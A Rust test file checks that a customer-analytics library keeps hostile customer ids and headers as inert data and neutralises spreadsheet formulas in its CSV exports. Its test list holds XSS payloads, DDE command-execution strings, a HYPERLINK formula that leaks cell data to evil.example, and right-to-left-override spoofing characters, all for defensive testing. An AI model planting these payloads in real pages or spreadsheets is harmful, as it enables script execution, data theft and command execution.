//! Hostile content: customer ids and headers written to attack whoever opens the results — HTML
//! and script for a page, formulas for a spreadsheet, bidirectional and invisible characters to
//! disguise a name, a 10 MB cell to exhaust memory. The core keeps text as data (escaping for
//! display is the page's job, which must set text, never HTML); every CSV it exports neutralises
//! formulas with a leading `'` and round-trips everything else exactly.

use std::time::{Duration, Instant};

use customer_lens::clv::synthetic::{SyntheticSpec, order_book};
use customer_lens::clv::{ClvOptions, analyze};
use customer_lens::day::Day;
use customer_lens::ingest::{IngestOptions, Role, read_csv};
use customer_lens::lifecycle::{LifecycleRules, stage_csv, stage_snapshot};
use customer_lens::rfm::{RfmOptions, RowFilter, score_customers, write_csv};
use customer_lens::{OrderBook, OrderKind};

/// Ids as an attacker would write them into a store's customer field.
const HOSTILE_IDS: [&str; 16] = [
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "</script><script>alert(1)</script>",
    "\"><svg/onload=alert(1)>",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=TAB()",
    "\r=CR()",
    // Right-to-left override: shows as "exe.png" reversed tricks.
    "\u{202E}gnp.exe",
    // Zero-width space, joiner and word joiner inside and around a name.
    "ann\u{200B}@shop.vn",
    "\u{200D}bob\u{2060}",
    "name, with \"quotes\"\nand a line break",
    "Nguyễn Thị Ánh",
];

/// What a spreadsheet-safe export writes for `id`: formulas get a leading `'`.
fn neutralised(id: &str) -> String {
    if id.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{id}")
    } else {
        id.to_string()
    }
}

/// A CSV field as RFC 4180 writes it.
fn quoted(field: &str) -> String {
    format!("\"{}\"", field.replace('"', "\"\""))
}

/// A few hundred simulated customers (enough for the CLV fit), the first ones with hostile ids,
/// written as an order export and read back through ingestion.
fn hostile_book() -> (OrderBook, Vec<String>) {
    let simulated = order_book(&SyntheticSpec::cdnow_like(400, 11));
    let mut ids: Vec<String> = simulated.customer_ids.iter().map(String::from).collect();
    for (slot, hostile) in ids.iter_mut().zip(HOSTILE_IDS) {
        *slot = hostile.to_string();
    }
    let mut text = String::from("order,customer,date,amount\n");
    for i in 0..simulated.order_count() {
        let id = &ids[simulated.customer[i] as usize];
        text.push_str(&format!(
            "o{i},{},{},{:.2}\n",
            quoted(id),
            Day(simulated.day[i]),
            simulated.value[i]
        ));
    }
    let book = read_csv(text.as_bytes(), &IngestOptions::default()).unwrap();
    assert_eq!(book.report.rows_rejected, 0, "{:?}", book.report.rejects);
    // Ingestion trims ids (a leading tab or CR is whitespace) and keeps everything else.
    let expected: Vec<String> = HOSTILE_IDS.iter().map(|id| id.trim().to_string()).collect();
    (book.book, expected)
}

/// Parses an export and returns (header, first field of every row).
fn first_fields(csv_text: &str) -> (Vec<String>, Vec<String>) {
    let mut reader = csv::ReaderBuilder::new().from_reader(csv_text.as_bytes());
    let header = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    let ids = reader
        .records()
        .map(|record| record.unwrap().get(0).unwrap().to_string())
        .collect();
    (header, ids)
}

/// Every id of `exported` is the neutralised form of a book id, and each of `expected` is there.
fn assert_export_neutralises(
    name: &str,
    exported: &[String],
    book: &OrderBook,
    expected: &[String],
) {
    let written: Vec<String> = book.customer_ids.iter().map(neutralised).collect();
    for field in exported {
        assert!(
            written.contains(field),
            "{name}: unexpected id field {field:?}"
        );
        assert!(
            !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{name}: a formula reaches the spreadsheet: {field:?}"
        );
    }
    for id in expected {
        assert!(
            exported.contains(&neutralised(id)),
            "{name}: {id:?} missing or altered"
        );
    }
}

#[test]
fn hostile_ids_are_kept_as_data() {
    let (book, expected) = hostile_book();
    for id in &expected {
        assert!(
            book.customer_ids.iter().any(|kept| kept == id),
            "{id:?} was changed on the way in"
        );
    }
    // Invisible and bidirectional characters are data: "ann\u{200B}@shop.vn" is not the plain
    // address, and nothing strips or normalises them.
    assert!(!book.customer_ids.iter().any(|id| id == "ann@shop.vn"));
    assert!(book.customer_ids.iter().any(|id| id == "\u{202E}gnp.exe"));
}

#[test]
fn rfm_export_neutralises_formulas_and_round_trips_the_rest() {
    let (book, expected) = hostile_book();
    let table = score_customers(&book, &RfmOptions::default()).unwrap();
    let text = write_csv(&book, &table, &RowFilter::default()).unwrap();
    let (header, ids) = first_fields(&text);
    assert_eq!(header.join(","), customer_lens::rfm::CSV_HEADER);
    assert_eq!(ids.len(), table.len());
    assert_export_neutralises("rfm", &ids, &book, &expected);
}

#[test]
fn lifecycle_export_neutralises_formulas_and_round_trips_the_rest() {
    let (book, expected) = hostile_book();
    let by_customer = book.customer_orders();
    let as_of = *book.day.iter().max().unwrap();
    let snapshot = stage_snapshot(&book, &by_customer, as_of, &LifecycleRules::default()).unwrap();
    let text = stage_csv(&book, &snapshot, None);
    let (header, ids) = first_fields(&text);
    assert_eq!(
        header.join(","),
        customer_lens::lifecycle::export::STAGE_CSV_HEADER
    );
    assert_export_neutralises("lifecycle", &ids, &book, &expected);
}

#[test]
fn clv_export_neutralises_formulas_and_round_trips_the_rest() {
    let (book, expected) = hostile_book();
    let analysis = analyze(&book, &book.customer_orders(), &ClvOptions::default()).unwrap();
    let text = analysis.csv(&book);
    let (header, ids) = first_fields(&text);
    assert_eq!(header, customer_lens::clv::export::CSV_HEADER);
    assert_eq!(ids.len(), analysis.summary.len());
    assert_export_neutralises("clv", &ids, &book, &expected);
}

/// Ids that never went through ingestion (a host page's `fromRows`, a test book) can start with
/// a tab or a carriage return, which spreadsheets also read as the start of a formula.
#[test]
fn leading_tab_and_carriage_return_are_neutralised_in_every_export() {
    let ids = ["\t=1+1", "\r=2+2", "\t@x", "plain"];
    let mut orders = Vec::new();
    for (c, id) in ids.iter().enumerate() {
        for k in 0..4 {
            let day = 15_000 + 30 * k + c as i32;
            orders.push((Some(*id), day, 10.0 + k as f64, OrderKind::Purchase));
        }
    }
    let book = OrderBook::from_orders(orders);
    let expected: Vec<String> = ids.iter().map(|id| id.to_string()).collect();

    let table = score_customers(&book, &RfmOptions::default()).unwrap();
    let (_, rfm_ids) = first_fields(&write_csv(&book, &table, &RowFilter::default()).unwrap());
    assert_export_neutralises("rfm", &rfm_ids, &book, &expected);

    let by_customer = book.customer_orders();
    let as_of = *book.day.iter().max().unwrap();
    let snapshot = stage_snapshot(&book, &by_customer, as_of, &LifecycleRules::default()).unwrap();
    let (_, stage_ids) = first_fields(&stage_csv(&book, &snapshot, None));
    assert_export_neutralises("lifecycle", &stage_ids, &book, &expected);
}

/// Headers are data too: kept verbatim for the column mapping, quoted verbatim in messages (the
/// page shows them with `textContent`).
#[test]
fn hostile_headers_are_kept_verbatim() {
    let script = "<img src=x onerror=alert(1)>";
    let text =
        format!("order,\"{script}\",date,amount,\"=HYPERLINK(\"\"x\"\")\"\n1,a,2024-01-01,5,x\n");
    let mut options = IngestOptions::default();
    options.columns.insert(Role::Customer, script);
    let book = read_csv(text.as_bytes(), &options).unwrap();
    assert_eq!(
        book.report.headers,
        ["order", script, "date", "amount", "=HYPERLINK(\"x\")"]
    );
    assert!(book.report.columns.name(Role::Customer) == Some(script));
    assert_eq!(book.customer_ids, ["a"]);

    let text = format!("order,\"{script}\",amount\n1,a,5\n");
    let error = read_csv(text.as_bytes(), &IngestOptions::default()).unwrap_err();
    assert_eq!(
        error.message,
        format!(
            "No order date column found among: order, {script}, amount. Choose it in the column \
             mapping (columns.date in the API)."
        )
    );
}

const TEN_MB: usize = 10 << 20;

/// A 10 MB customer id is not an id (a stray quote swallowed the file, or the wrong column): the
/// row is rejected, and the report keeps 200 characters of it, not 10 MB.
#[test]
fn ten_megabyte_cells_are_rejected_or_ignored_and_never_copied_whole() {
    let huge = "x".repeat(TEN_MB);
    let text = format!(
        "order,customer,note,date,amount\n1,{huge},n,2024-01-01,5\n2,b,\"{huge}\",2024-01-02,6\n"
    );
    let book = read_csv(text.as_bytes(), &IngestOptions::default()).unwrap();
    let r = &book.report;
    assert_eq!((r.rows_read, r.rows_accepted, r.rows_rejected), (2, 1, 1));
    assert_eq!(r.rejects[0].row, 2);
    assert_eq!(r.rejects[0].column, "customer");
    assert_eq!(r.rejects[0].value, "x".repeat(200));
    assert_eq!(
        r.rejects[0].reason.message,
        format!(
            "the customer id is {TEN_MB} characters long (at most 1000): check that this column \
             holds customer ids and that the quotes in the file are balanced"
        )
    );
    // The 10 MB note on row 3 is in a column no role reads: the order is kept.
    assert_eq!(book.customer_ids, ["b"]);

    // A 10 MB header name is cut to 60 characters in messages.
    let text = format!("order,customer,{huge}\n1,a,x\n");
    let error = read_csv(text.as_bytes(), &IngestOptions::default()).unwrap_err();
    assert_eq!(
        error.message,
        format!(
            "No order date column found among: order, customer, {}…. Choose it in the column \
             mapping (columns.date in the API).",
            "x".repeat(60)
        )
    );

    // An unbalanced quote no longer swallows the rest of the file: its row is rejected, the
    // 600,000 rows after it are read.
    let mut text = String::from("order,customer,date,amount\n1,\"a,2024-01-01,5\n");
    text.push_str(&"2,b,2024-01-02,6\n".repeat(600_000));
    let book = read_csv(text.as_bytes(), &IngestOptions::default()).unwrap();
    let r = &book.report;
    assert_eq!(
        (r.rows_read, r.rows_accepted, r.rows_rejected),
        (600_001, 600_000, 1)
    );
    assert_eq!(
        (r.rejects[0].row, r.rejects[0].reason.code.as_str()),
        (2, "stray_quote")
    );
}

/// Reading a file with one huge cell takes time proportional to its size: 10× the cell, about
/// 10× the time, not 100×. Best of three runs each, a generous bound against a busy machine.
#[test]
fn a_huge_cell_costs_linear_time() {
    fn best_time(cell_bytes: usize) -> Duration {
        let text = format!(
            "order,customer,note,date,amount\n1,a,\"{}\",2024-01-01,5\n",
            "y,\"\"".repeat(cell_bytes / 4)
        );
        (0..3)
            .map(|_| {
                let start = Instant::now();
                let book = read_csv(text.as_bytes(), &IngestOptions::default()).unwrap();
                assert_eq!(book.report.rows_accepted, 1);
                start.elapsed()
            })
            .min()
            .unwrap()
    }
    let small = best_time(TEN_MB / 10);
    let large = best_time(TEN_MB);
    let ratio = large.as_secs_f64() / small.as_secs_f64().max(1e-4);
    assert!(
        ratio < 40.0,
        "1 MB: {small:?}, 10 MB: {large:?} (×{ratio:.1})"
    );
}
